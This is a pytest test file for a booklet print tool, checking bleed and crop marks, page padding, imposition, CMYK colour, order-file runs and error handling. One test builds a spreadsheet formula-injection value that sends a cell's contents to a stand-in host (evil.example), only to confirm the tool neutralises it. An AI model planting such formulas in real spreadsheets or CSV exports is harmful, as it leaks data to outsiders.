"""Print-ready files and print runs: bleed, crop marks, padding, spreads and orders."""

from __future__ import annotations

import csv
import datetime
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import pytest
from click.testing import CliRunner
from PIL import Image
from pypdf import PdfReader

from booklet.cli import main
from booklet.errors import BookletError
from booklet.paths import print_run_folder
from booklet.press.print_run import print_booklets, print_ready, print_run
from booklet.source.project import Project

from . import pdfread
from .conftest import FIXTURES, fake_print_ready
from .tools import needs

MM = 72 / 25.4
A5 = (148 * MM, 210 * MM)


@pytest.fixture(scope="module")
def printed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("print")
    print_booklets(Project.load(FIXTURES, ["sample-booklet"]), out, imposed=True)
    return out / "sample-booklet" / "print"


def test_files_are_where_the_printer_expects(printed: Path) -> None:
    names = sorted(p.name for p in printed.iterdir())
    assert names == [
        f"sample-booklet-{v}-{kind}.pdf"
        for v in ("easy-read", "large-print", "standard")
        for kind in ("imposed", "print")
    ]


def test_trim_bleed_and_media_boxes(printed: Path) -> None:
    for page in PdfReader(printed / "sample-booklet-standard-print.pdf").pages:
        trim, bleed, media = page.trimbox, page.bleedbox, page.mediabox
        assert (float(trim.width), float(trim.height)) == pytest.approx(A5, abs=0.05)
        assert float(bleed.width) == pytest.approx(float(trim.width) + 6 * MM, abs=0.05)
        assert float(bleed.left) == pytest.approx(float(trim.left) - 3 * MM, abs=0.05)
        assert float(media.left) == pytest.approx(float(trim.left) - 8 * MM, abs=0.05), "a 5 mm slug"
        assert float(media.top) == pytest.approx(float(trim.top) + 8 * MM, abs=0.05)


@needs("poppler")
def test_crop_marks_are_drawn_in_the_slug(printed: Path, tmp_path: Path) -> None:
    pdf = printed / "sample-booklet-standard-print.pdf"
    subprocess.run(
        ["pdftoppm", "-r", "150", "-png", "-f", "2", "-l", "2", str(pdf), str(tmp_path / "p")], check=True
    )
    image = Image.open(next(tmp_path.glob("p*.png"))).convert("L")
    lowest = cast(Callable[[Any], tuple[int, int]], lambda im: im.getextrema())
    px = 150 / 25.4  # pixels a mm at 150 dpi
    slug, trim = round(5 * px), round(8 * px)  # the slug is 5 mm wide; the trim 8 mm in
    mark = image.crop((0, trim - 1, slug, trim + 2))  # the top-left mark along the top trim line
    bleed = image.crop((slug + 1, slug + 1, trim - 1, trim - 1))  # the bleed's top-left corner
    middle = image.crop((image.width // 2 - 5, 0, image.width // 2 + 5, trim - 1))
    assert lowest(mark)[0] < 128, "a crop mark in the slug, on the trim line"
    assert lowest(bleed)[0] > 200, "no mark in the bleed of a white page"
    assert lowest(middle)[0] > 200, "nothing else in the slug or the bleed"


@pytest.mark.parametrize("variant", ["standard", "large-print", "easy-read"])
def test_padded_to_a_multiple_of_4_with_notes_before_the_back_cover(printed: Path, variant: str) -> None:
    pdf = printed / f"sample-booklet-{variant}-print.pdf"
    texts = pdfread.page_texts(pdf)
    screen = (
        len(pdfread.page_texts(pdf.parent.parent / f"sample-booklet-{variant}.pdf"))
        if (pdf.parent.parent / f"sample-booklet-{variant}.pdf").exists()
        else None
    )
    assert len(texts) % 4 == 0
    assert "Contact us" in texts[-1]
    notes = [i for i, t in enumerate(texts) if t.strip().startswith("Notes") or "\nNotes\n" in f"\n{t}\n"]
    assert all(i == len(texts) - 1 - k for k, i in enumerate(reversed(notes), start=1))
    if screen is not None:
        assert len(texts) - len(notes) == screen


def test_fonts_are_embedded_and_pdfx_is_declared(printed: Path) -> None:
    reader = PdfReader(printed / "sample-booklet-standard-print.pdf")
    for page in reader.pages:
        for font in cast(Any, page["/Resources"])["/Font"].values():
            descriptor = (
                font.get_object()["/FontDescriptor"]
                if "/FontDescriptor" in font.get_object()
                else (font.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"])
            )
            assert any(k in descriptor for k in ("/FontFile", "/FontFile2", "/FontFile3"))
    xmp = cast(Any, reader.trailer["/Root"])["/Metadata"].get_object().get_data()
    assert b"PDF/X-4" in xmp


def test_imposed_spreads(printed: Path) -> None:
    print_pdf = PdfReader(printed / "sample-booklet-standard-print.pdf")
    imposed = PdfReader(printed / "sample-booklet-standard-imposed.pdf")
    assert len(imposed.pages) == len(print_pdf.pages) // 2
    trim = imposed.pages[0].trimbox
    assert float(trim.width) == pytest.approx(2 * A5[0], abs=0.05)


def test_print_files_are_reproducible(tmp_path: Path, printed: Path) -> None:
    print_booklets(Project.load(FIXTURES, ["sample-booklet"], easy_read=False), tmp_path, ["standard"])
    again = tmp_path / "sample-booklet" / "print" / "sample-booklet-standard-print.pdf"
    assert again.read_bytes() == (printed / "sample-booklet-standard-print.pdf").read_bytes()


@pytest.mark.slow
def test_order_run_and_its_summary(tmp_path: Path) -> None:
    orders = tmp_path / "orders.csv"
    orders.write_text(f"{HEADER}TST-01,standard,10,Ward 4{TO}\nTST-01,standard,5,Ann{TO}\n")
    result = CliRunner().invoke(
        main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
    )
    assert result.exit_code == 0, result.output
    run = (tmp_path / "run" / "run.csv").read_text().splitlines()
    pages = len(PdfReader(tmp_path / "run" / "sample-booklet-standard-print.pdf").pages)
    each = f"{pages},{pages // 4}"
    assert run[1:4] == [
        f"order,TST-01,standard,5,Ann,Sister Lee,1 High St,01234 567890,{each},{5 * pages // 4},SRA4",
        f"order,TST-01,standard,10,Ward 4,Sister Lee,1 High St,01234 567890,{each},{10 * pages // 4},SRA4",
        f"booklet total,TST-01,standard,15,,,,,{each},{15 * pages // 4},SRA4",
    ]  # the spreads are printed on SRA4 press sheets (A4 with room for bleed and marks)
    assert (tmp_path / "run" / "sample-booklet-standard-imposed.pdf").is_file()


def test_bad_order_file_makes_nothing(tmp_path: Path) -> None:
    orders = tmp_path / "orders.csv"
    orders.write_text(f"{HEADER}TST-01,standard,lots,Ward 4{TO}\nXXX-99,standard,1,Ann{TO}\n")
    result = CliRunner().invoke(
        main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
    )
    assert result.exit_code == 1
    assert f"{orders}:2:" in result.output
    assert f"{orders}:3:" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "run").exists()


def test_blank_order_form() -> None:
    result = CliRunner().invoke(main, ["order", "--template", "--content", str(FIXTURES)])
    assert result.exit_code == 0
    assert result.output.splitlines()[0].startswith(HEADER.strip())
    assert "TST-01,large-print,," in result.output


def test_low_resolution_pictures_are_reported(sample_content: Path, caplog: pytest.LogCaptureFixture) -> None:
    from PIL import Image as PILImage

    from booklet.press.print_run import low_resolution
    from booklet.variants import VARIANTS

    PILImage.new("RGB", (400, 200), "white").save(sample_content / "sample-booklet" / "images" / "photo.png")
    PILImage.new("RGB", (2000, 900), "white").save(sample_content / "sample-booklet" / "images" / "sharp.png")
    source = sample_content / "sample-booklet" / "booklet.md"
    pictures = "\n\n![A photo of a ward](images/photo.png)\n\n![A sharp photo of a ward](images/sharp.png)\n"
    source.write_text(source.read_text(encoding="utf-8") + pictures, encoding="utf-8")
    from booklet.source.project import load_booklet

    booklet = load_booklet(sample_content, "sample-booklet")
    warnings = low_resolution(booklet, VARIANTS["standard"])
    assert len(warnings) == 1
    assert "photo.png: 400 pixels wide, 85 dpi" in warnings[0]
    assert "1417 pixels" in warnings[0]


def test_print_colours_are_cmyk(printed: Path) -> None:
    """The palette is defined once (base.css) and given to the printer in CMYK (print.css); no RGB."""
    page = PdfReader(printed / "sample-booklet-standard-print.pdf").pages[1]
    ops: list[tuple[bytes, list[float]]] = []
    page.extract_text(
        visitor_operand_before=lambda op, args, cm, tm: ops.append(
            (op, [float(a) for a in args if isinstance(a, int | float)])
        )
    )
    cmyk = [args for op, args in ops if op in (b"scn", b"k") and len(args) == 4]
    assert len(cmyk) >= 5, "text and rules are painted in CMYK"
    assert not [args for op, args in ops if op in (b"rg", b"RG")], "no RGB colour, marks included"


# Hostile input and faults (issue 12)


@pytest.fixture
def fake_print(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make print runs without rendering: every print file is a few bytes, 8 pages long."""
    fake_print_ready(monkeypatch)


HEADER = "code,variant,quantity,ordered_by,delivery_name,address,contact\n"
TO = ",Sister Lee,1 High St,01234 567890"  # where the parcel goes
ORDER = HEADER + "TST-01,standard,{},Ward 4" + TO + "\n"


def order_file(tmp_path: Path, quantity: int = 10, text: str | None = None) -> Path:
    path = tmp_path / f"orders-{quantity}.csv"
    path.write_text(ORDER.format(quantity) if text is None else text, encoding="utf-8")
    return path


def test_print_run_folder_numbering(tmp_path: Path) -> None:
    day = datetime.date(2026, 3, 9)
    runs = tmp_path / "print-runs"
    assert print_run_folder(tmp_path, day) == runs / "2026-03-09"
    (runs / "2026-03-09").mkdir(parents=True)
    assert print_run_folder(tmp_path, day) == runs / "2026-03-09-2"
    (runs / "2026-03-09-2").mkdir()
    (runs / "2026-03-09-3").write_text("a file takes the name too")
    assert print_run_folder(tmp_path, day) == runs / "2026-03-09-4"
    assert print_run_folder(tmp_path, datetime.date(2026, 3, 10)) == runs / "2026-03-10"


@pytest.mark.usefixtures("fake_print")
def test_a_second_run_the_same_day_gets_its_own_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for quantity in (10, 3):
        result = CliRunner().invoke(
            main, ["order", str(order_file(tmp_path, quantity)), "--content", str(FIXTURES)]
        )
        assert result.exit_code == 0, result.output
    today = datetime.date.today().isoformat()
    runs = tmp_path / "out" / "print-runs"
    assert sorted(p.name for p in runs.iterdir()) == [today, f"{today}-2"]
    assert (runs / today / "run.csv").read_text().splitlines()[1].startswith("order,TST-01,standard,10,")
    assert (
        (runs / f"{today}-2" / "run.csv").read_text().splitlines()[1].startswith("order,TST-01,standard,3,")
    )
    assert (runs / today / "summary.txt").read_text().splitlines()[1].startswith("TST-01 standard: 10 copies")
    assert (runs / today / "sample-booklet-standard-imposed.pdf").read_bytes() == b"%PDF-spreads"


@pytest.mark.usefixtures("fake_print")
def test_out_folder_that_holds_a_run_is_refused(tmp_path: Path) -> None:
    run = tmp_path / "run"
    args = ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(run)]
    assert CliRunner().invoke(main, args).exit_code == 0
    before = (run / "run.csv").read_bytes()
    args[1] = str(order_file(tmp_path, 3))
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 1
    assert f"{run}: already holds a print run (run.csv)" in result.output
    assert "Traceback" not in result.output
    assert (run / "run.csv").read_bytes() == before


@pytest.mark.usefixtures("fake_print")
def test_out_that_is_a_file_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "run.txt"
    target.write_text("not a folder")
    result = CliRunner().invoke(
        main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(target)]
    )
    assert result.exit_code == 1
    assert f"{target}: is a file, not a folder" in result.output
    assert target.read_text() == "not a folder"


@pytest.mark.usefixtures("fake_print")
def test_out_folder_that_exists_without_a_run_is_used(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (run / "notes.txt").write_text("keep me")
    result = CliRunner().invoke(
        main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(run)]
    )
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in run.iterdir()) == [
        "notes.txt",
        "run.csv",
        "sample-booklet-standard-imposed.pdf",
        "sample-booklet-standard-print.pdf",
        "summary.txt",
    ]


def failing_after_first_write(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Let the first file be written, then fail every later one as a full disk does."""
    from booklet import output

    real = output.write_bytes
    written: list[Path] = []

    def write_bytes(path: Path, data: bytes) -> None:
        if written:
            raise OSError(28, "No space left on device")
        real(path, data)
        written.append(path)

    monkeypatch.setattr(output, "write_bytes", write_bytes)
    return written


@pytest.mark.usefixtures("fake_print")
@pytest.mark.parametrize("exists", [False, True])
def test_a_run_that_cannot_be_written_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, exists: bool
) -> None:
    orders = order_file(tmp_path)
    parent = tmp_path / "runs"
    parent.mkdir()
    run = parent / "run"
    if exists:
        run.mkdir()
        (run / "notes.txt").write_text("keep me")
    written = failing_after_first_write(monkeypatch)
    with pytest.raises(BookletError) as caught:
        print_run(Project.load(FIXTURES), orders, run)
    assert len(written) == 1
    assert "No space left on device" in str(caught.value)
    assert str(caught.value).startswith(f"{run}{os.sep}")
    if exists:
        assert [p.name for p in run.iterdir()] == ["notes.txt"]
        assert [p.name for p in parent.iterdir()] == ["run"]
    else:
        assert list(parent.iterdir()) == []


@pytest.mark.usefixtures("fake_print")
def test_a_run_that_cannot_be_written_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    failing_after_first_write(monkeypatch)
    result = CliRunner().invoke(main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES)])
    assert result.exit_code == 1
    assert "No space left on device" in result.output
    assert "Traceback" not in result.output
    assert list((tmp_path / "out" / "print-runs").iterdir()) == []


@pytest.mark.usefixtures("fake_print")
def test_a_run_whose_folder_cannot_be_made_is_a_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    result = CliRunner().invoke(
        main, ["order", str(order_file(tmp_path)), "--content", str(FIXTURES), "--out", str(blocker / "run")]
    )
    assert result.exit_code == 1
    assert f"{blocker / 'run'}: " in result.output
    assert "Traceback" not in result.output


def test_unterminated_quote_in_the_order_file_makes_nothing(tmp_path: Path) -> None:
    orders = order_file(
        tmp_path, text=ORDER.format(5) + f'TST-01,standard,5,"Ward 7\nTST-01,large-print,2,Ann{TO}\n'
    )
    result = CliRunner().invoke(
        main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
    )
    assert result.exit_code == 1
    assert f"{orders}:3: " in result.output
    assert "never closed" in result.output
    assert "Fix: " in result.output
    assert not (tmp_path / "run").exists()


@pytest.mark.usefixtures("fake_print")
def test_run_csv_of_a_hostile_name_is_neutralised(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'
    quoted = name.replace('"', '""')
    orders = order_file(tmp_path, text=f'{HEADER}TST-01,standard,2,"{quoted}"{TO}\n')
    result = CliRunner().invoke(
        main, ["order", str(orders), "--content", str(FIXTURES), "--out", str(tmp_path / "run")]
    )
    assert result.exit_code == 0, result.output
    with (tmp_path / "run" / "run.csv").open(newline="", encoding="utf-8") as handle:
        assert list(csv.reader(handle))[1][4] == "'" + name


def test_blank_order_form_into_a_missing_folder(tmp_path: Path) -> None:
    target = tmp_path / "missing" / "dir" / "x.csv"
    result = CliRunner().invoke(
        main, ["order", "--template", "--content", str(FIXTURES), "--out", str(target)]
    )
    assert result.exit_code == 1
    assert f"{target}: the folder {target.parent} does not exist" in result.output
    assert isinstance(result.exception, SystemExit)
    assert not target.parent.exists()


def test_blank_order_form_into_a_file(tmp_path: Path) -> None:
    target = tmp_path / "form.csv"
    target.write_text("an older form")
    result = CliRunner().invoke(
        main, ["order", "--template", "--content", str(FIXTURES), "--out", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert target.read_text(encoding="utf-8").startswith(f"{HEADER.strip()},title\n")
    result = CliRunner().invoke(
        main, ["order", "--template", "--content", str(FIXTURES), "--out", str(tmp_path)]
    )
    assert result.exit_code == 1
    assert f"{tmp_path}: is a folder" in result.output


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00",  # truncated in its header
        b"not a picture at all",
        b"",
    ],
)
def test_unreadable_picture_is_a_warning_not_a_crash(sample_content: Path, data: bytes) -> None:
    from PIL import Image

    from booklet.press.print_run import low_resolution
    from booklet.source.project import load_booklet
    from booklet.variants import VARIANTS

    broken = sample_content / "sample-booklet" / "images" / "broken.png"
    Image.new("RGB", (40, 40), "white").save(broken)
    source = sample_content / "sample-booklet" / "booklet.md"
    picture = "\n\n![A photo of a ward](images/broken.png)\n"
    source.write_text(source.read_text(encoding="utf-8") + picture, encoding="utf-8")
    booklet = load_booklet(sample_content, "sample-booklet")
    broken.write_bytes(data)  # damaged after loading (the loader refuses a damaged picture itself)
    warnings = low_resolution(booklet, VARIANTS["standard"])
    assert len(warnings) == 1
    assert warnings[0].startswith(
        f"{sample_content / 'sample-booklet' / 'images' / 'broken.png'}: cannot be read"
    )


@pytest.mark.slow
def test_print_with_a_broken_picture_reports_it_without_a_traceback(
    sample_content: Path, tmp_path: Path
) -> None:
    picture = sample_content / "sample-booklet" / "images" / "broken.png"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00")
    source = sample_content / "sample-booklet" / "booklet.md"
    source.write_text(
        source.read_text(encoding="utf-8") + "\n\n![A photo of a ward](images/broken.png)\n", encoding="utf-8"
    )
    args = ["print", "sample-booklet", "--variant", "standard", "--content", str(sample_content)]
    result = CliRunner().invoke(main, [*args, "--out", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)
    line = source.read_text(encoding="utf-8").count("\n")
    assert f"{source}:{line}: picture 'images/broken.png' is damaged or not a PNG or JPEG" in result.output
    assert "[SRC-IMAGE-FILE]" in result.output
    assert "Traceback" not in result.output


# Paper caliper: the option, and publisher.yml's default (issue 13)


@pytest.mark.parametrize(
    ("args", "expected"), [([], None), (["--paper-caliper", "120"], 120), (["--paper-caliper", "0"], 0)]
)
def test_print_passes_the_paper_caliper(args: list[str], expected: int | None, tmp_path: Path) -> None:
    from unittest import mock

    with mock.patch("booklet.press.print_run.print_booklets", autospec=True) as made:
        result = CliRunner().invoke(main, ["print", "--imposed", "--out", str(tmp_path), *args])
    assert result.exit_code == 0, result.output
    assert made.call_args.args[-1] == expected


def test_order_passes_the_paper_caliper(tmp_path: Path) -> None:
    from unittest import mock

    orders, folder = order_file(tmp_path), tmp_path / "run"

    def run_made(*args: object, **kwargs: object) -> list[Path]:
        folder.mkdir()
        (folder / "summary.txt").write_text("the summary\n", encoding="utf-8")
        return []

    with mock.patch("booklet.press.print_run.print_run", autospec=True, side_effect=run_made) as run:
        result = CliRunner().invoke(
            main, ["order", str(orders), "--out", str(folder), "--paper-caliper", "90"]
        )
    assert result.exit_code == 0, result.output
    assert run.call_args.kwargs["caliper_um"] == 90
    assert result.output == "the summary\n"


@pytest.mark.parametrize("value", ["-5", "1000", "thin"])
def test_an_impossible_paper_caliper_is_refused(value: str, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["print", "--out", str(tmp_path), "--paper-caliper", value])
    assert result.exit_code == 2
    assert "--paper-caliper" in result.output


def test_paper_caliper_in_publisher_yml(sample_content: Path) -> None:
    from booklet.errors import ContentError
    from booklet.source.content import load_publisher

    path = sample_content / "publisher.yml"
    assert load_publisher(sample_content)[0].paper_caliper == 0, "no creep unless asked"
    text = path.read_text(encoding="utf-8")
    path.write_text(text + "paper_caliper: 110\n", encoding="utf-8")
    assert load_publisher(sample_content)[0].paper_caliper == 110
    path.write_text(text + "paper_caliper: 0.1\n", encoding="utf-8")
    with pytest.raises(ContentError, match="paper_caliper") as raised:
        load_publisher(sample_content)
    assert raised.value.problems[0].line == text.count("\n") + 1
    assert "microns" in raised.value.problems[0].fix


@pytest.mark.slow
def test_print_files_report_their_press_sheet_sheets_and_creep(sample_content: Path) -> None:
    """What the print-run summary shows: the paper, sheets a copy and the creep of the spreads."""
    from booklet.render.pdf import Renderer
    from booklet.source.project import load_booklet
    from booklet.variants import VARIANTS

    booklet = load_booklet(sample_content, "sample-booklet")
    with Renderer() as renderer:
        made = print_ready(booklet, VARIANTS["standard"], renderer, imposed=True, caliper_um=100)
    assert made.press_sheet == "SRA4"
    assert made.sheets == made.pages // 4
    assert made.creep_mm == pytest.approx((made.sheets - 1) * 0.1)
    assert made.imposed is not None


def test_each_translation_gets_print_files_in_its_own_folder_named_with_its_language(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Issue 18: booklet print makes every translation's print files; a right-to-left one says its binding."""
    from .conftest import CORPUS

    fake_print_ready(monkeypatch)
    with caplog.at_level("INFO", logger="booklet"):
        written = print_booklets(
            Project.load(CORPUS, ["translated"], easy_read=False), tmp_path, ["standard"], imposed=True
        )
    found = sorted(str(p.relative_to(tmp_path)) for p in written)
    tags = ("ar", "bn", "pa", "pl", "ur", "zh-Hans")
    assert found == sorted(
        [
            "translated/print/translated-standard-print.pdf",
            "translated/print/translated-standard-imposed.pdf",
            *(
                f"translated/{tag}/print/translated-standard-{tag}-{kind}.pdf"
                for tag in tags
                for kind in KINDS
            ),
        ]
    )
    said = [r.getMessage() for r in caplog.records]
    assert "translated/ar (standard): Arabic (العربية), bound on the right" in "\n".join(said)
    assert "translated/ur (standard): Urdu (اردو), bound on the right" in "\n".join(said)
    assert "translated/pl (standard): Polish (Polski), bound on the left" in said


KINDS = ("print", "imposed")
